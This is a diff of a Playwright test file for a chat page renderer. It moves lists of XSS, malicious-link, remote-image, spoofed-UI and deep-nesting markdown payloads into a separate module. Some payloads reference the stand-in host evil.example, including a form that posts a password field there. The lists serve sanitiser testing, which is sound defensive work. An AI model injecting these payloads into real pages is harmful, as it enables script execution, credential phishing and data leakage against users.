@@ -9,6 +9,7 @@ from msgspec.structs import replace
 from playwright.async_api import Browser, Route, expect
 
 from app.settings import Settings
+from tests.page.payloads import FAKES, IMAGES, LINKS, SCRIPT, TOO_MUCH
 from tests.page.reader import Reader, reading
 from tests.scripted_model import ScriptedModel, say
 from tests.servers import SharedServers, ingest_sample
@@ -27,118 +28,6 @@ ATTRIBUTES = set(
     " ol[start] bdi[class] bdi[dir]".split()
 ) | {f"{name}[dir]" for name in "blockquote h3 li ol p td th ul".split()}
 CLASSES = {"mark", "wide", "host"}
-
-SCRIPT = [
-    "<script>hacked = 1</script>",
-    "<img src=x onerror=hacked=1>",
-    '<img src="x" onerror="hacked=1" <p>',
-    "<svg onload=hacked=1>",
-    "<svg><script>hacked=1</script></svg>",
-    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><!--</style><a title='--&gt;<img src onerror=hacked=1>'>",
-    "<details open ontoggle=hacked=1>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
-    "<iframe src=javascript:parent.hacked=1>",
-    "<object data=javascript:hacked=1>",
-    "<embed src=javascript:hacked=1>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<template><script>hacked=1</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'>",
-    "<a href='javascript:hacked=1'>press</a>",
-    "<div onmouseover=hacked=1 style='position:fixed;inset:0'>over all</div>",
-    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<x-card onclick=hacked=1 tabindex=0 autofocus onfocus=hacked=1>",
-    "\\<img src=x onerror=hacked=1>",
-    "&lt;img src=x onerror=hacked=1&gt;",
-    "`<img src=x onerror=hacked=1>`",
-    "```html\n<img src=x onerror=hacked=1>\n```",
-    '```"><img src=x onerror=hacked=1>\ncode\n```',
-    "| <img src=x onerror=hacked=1> | b |\n| --- | --- |\n| <script>hacked=1</script> | d |",
-    "# <svg onload=hacked=1>",
-    '[a](https://x.example/"onmouseover="hacked=1)',
-    "[a](https://x.example 'title\" onmouseover=\"hacked=1')",
-    '!["onerror="hacked=1](https://evil.example/x.png)',
-    "<svg></p><style><a id='</style><img src=x onerror=hacked=1>'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hacked=1>",
-    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=hacked=1></style>",
-    "<select><template><img src=x onerror=hacked=1></template></select>",
-    "<!--><img src=x onerror=hacked=1>-->",
-    "<![CDATA[<img src=x onerror=hacked=1>]]>",
-    "<?xml-stylesheet href='javascript:hacked=1'?>",
-    "<a href=x id=stop name=body tabindex=1 accesskey=x>press</a>",
-    "<form id=turns><input name=append><input name=children></form>",
-    "\x00<scr\x00ipt>hacked=1</script>",
-]
-LINKS = [
-    "[press](javascript:hacked=1)",
-    "[press](JaVaScRiPt:hacked=1)",
-    "[press](\x01javascript:hacked=1)",
-    "[press](java\tscript:hacked=1)",
-    "[press](&#106;avascript&colon;hacked=1)",
-    "[press](<javascript:hacked=1>)",
-    "<javascript:hacked=1>",
-    "[press](data:text/html,<script>hacked=1</script>)",
-    "[press](vbscript:msgbox)",
-    "[press](file:///etc/passwd)",
-    "[press](blob:https://evil.example/x)",
-    "[press](/api/v1/chat)",
-    "[press](#question)",
-    "[press](//evil.example/x)",
-    "[press]\n\n[press]: javascript:hacked=1",
-    "[press](feed:javascript:hacked=1)",
-    "[press](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFja2VkPTE+)",
-    "[press](filesystem:https://evil.example/x)",
-    "[press](mailto:a@evil.example?body=x)",
-    "a@evil.example",
-    "<a@evil.example>",
-    "[press](tel:+1)",
-    "[press](\\\\evil.example/x)",
-    "[press](http:evil)",
-]
-IMAGES = [
-    "![a cat](https://evil.example/cat.png)",
-    "![a cat](https://evil.example/cat.png 'secret')",
-    "![a cat](data:image/svg+xml,<svg onload=hacked=1>)",
-    "![a cat][cat]\n\n[cat]: https://evil.example/cat.png",
-    "[![a cat](https://evil.example/cat.png)](https://evil.example)",
-    "<img src=https://evil.example/cat.png>",
-    "<picture><source srcset=https://evil.example/cat.png></picture>",
-    "<video poster=https://evil.example/cat.png></video>",
-    "<div style='background: url(https://evil.example/cat.png)'>a cat</div>",
-]
-FAKES = [
-    "<cite>1</cite>",
-    "<button class=mark data-source=1>1</button>",
-    "<sup><a href=https://evil.example>1</a></sup>",
-    "\\[1\\]",
-    "&#91;1&#93;",
-    "［1］",
-    "[99]",
-    "`[1]`",
-    "```\nx[1]\n```",
-    "    x[1]",
-    "[markffffffffffffffffffffffffn1]",
-    "<form id=ask action=https://evil.example><input name=password></form>",
-    "<div id=panel class=turn data-part=answer role=dialog>fake</div>",
-    "<h1 id=status>fake</h1>",
-    "<dialog open>fake</dialog>",
-    "<p role=alert>fake</p>",
-    "<input type=checkbox> <select><option>fake</select>",
-    "- [x] [ ] fake",
-    "^1^ ~1~ [¹](https://evil.example)",
-    "[`1`](https://evil.example)",
-    "\u202e]1[\u202c",
-    "[\u200b1]",
-    "[0] [1.0] [one]",
-]
-# Nested deeper than a stack is high; more cells than a browser can show.
-TOO_MUCH = {
-    "quotes": "> " * 5_000 + "The end.",
-    "lists": "- " * 5_000 + "The end.",
-    "cells": f"|{'a|' * 3_000}\n|{'-|' * 3_000}\n{'|a' * 3_000}\n" + "|a\n" * 2_000 + "The end.",
-}
 
 
 @pytest.mark.parametrize(
